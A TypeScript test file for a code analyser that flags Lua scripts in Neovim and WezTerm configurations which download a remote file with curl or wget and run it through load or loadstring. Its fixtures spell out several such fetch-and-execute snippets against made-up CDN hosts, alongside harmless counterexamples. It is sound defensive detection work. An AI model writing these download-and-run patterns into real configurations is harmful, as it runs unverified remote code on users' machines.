import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Neovim Lua keeps a program's output three ways: the value of `vim.fn.system({…})`, `vim.system({…}):wait()`,
 * or the finished process a `vim.system` callback receives. When the program is curl or wget given a URL,
 * that output is the URL's body (src/analysis/code/scripting/lua-processes.ts).
 */
const lua = (code: string) => factsOf('scripting', `-- neovim\nlocal uv = vim.uv\n${code}`);

describe('Lua process outputs', () => {
  it('curl through vim.fn.system, then load: a fetch and downloaded code run', async () => {
    const f = await lua(
      "local U = 'https://x.palette-cdn.net/p.lua'\nlocal out = vim.fn.system({ 'curl', '-fsSL', U })\nlocal f = load(out)\nif f then f() end\n",
    );
    expect(ofKind(f, 'fetch')).toHaveLength(1);
    expect(ofKind(f, 'execute')).toMatchObject([{ via: 'load' }]);
  });

  it("wget through vim.system with a callback: the callback's process carries the body", async () => {
    const f = await lua(
      [
        'local function later()',
        "  vim.system({ 'wget', '-qO-', 'https://x.palette-cdn.net/q.lua' }, { text = true }, function(done)",
        '    if done.code ~= 0 then return end',
        '    local chunk = loadstring(done.stdout)',
        '    if chunk then pcall(chunk) end',
        '  end)',
        'end',
      ].join('\n'),
    );
    expect(ofKind(f, 'execute')).toMatchObject([{ via: 'load' }]);
  });

  it('a string command built with .. and read through io.popen in one statement', async () => {
    const f = await lua(
      "local base = 'https://x.palette-cdn.net/'\nlocal function sync()\n  local code = io.popen('curl -s ' .. base .. 'r.lua'):read('*a')\n  assert(load(code))()\nend\n",
    );
    expect(ofKind(f, 'execute')).toMatchObject([{ via: 'load' }]);
  });

  it('not: curl output decoded as JSON, another program, a downloader without a URL', async () => {
    const json = await lua(
      "vim.system({ 'curl', '-fsS', 'https://ci.example-status.net/b' }, {}, function(res)\n  local ok, d = pcall(vim.json.decode, res.stdout)\nend)\n",
    );
    expect(ofKind(json, 'fetch')).toHaveLength(1);
    expect(ofKind(json, 'execute')).toEqual([]);
    const git = await lua("local out = vim.fn.system({ 'git', 'log', '-1' })\nlocal f = load(out)\n");
    expect(ofKind(git, 'execute')).toEqual([]);
    const local = await lua("local out = vim.fn.system({ 'curl', '--version' })\nlocal f = load(out)\n");
    expect(ofKind(local, 'fetch')).toEqual([]);
    expect(ofKind(local, 'execute')).toEqual([]);
  });
});

describe("WezTerm's run_child_process", () => {
  const wez = (code: string) => factsOf('scripting', `local wezterm = require 'wezterm'\n${code}`);

  it('called with a table and no parentheses: the second value it returns is the body', async () => {
    const f = await wez(
      "local ok, body = wezterm.run_child_process { 'curl', '-fsSL', 'https://themes.term-cdn.net/t.lua' }\nlocal chunk = load(body)\nif chunk then chunk() end\n",
    );
    expect(ofKind(f, 'fetch')).toHaveLength(1);
    expect(ofKind(f, 'execute')).toMatchObject([{ via: 'load' }]);
  });

  it('the success flag is not the body, and a local program is not a download', async () => {
    const f = await wez(
      "local ok, out = wezterm.run_child_process({ 'git', 'rev-parse', 'HEAD' })\nlocal chunk = load(ok and 'return 1' or '')\nwezterm.log_info(out)\n",
    );
    expect(ofKind(f, 'fetch')).toEqual([]);
    expect(ofKind(f, 'execute').filter((b) => b.code.taints.includes('download'))).toEqual([]);
  });
});
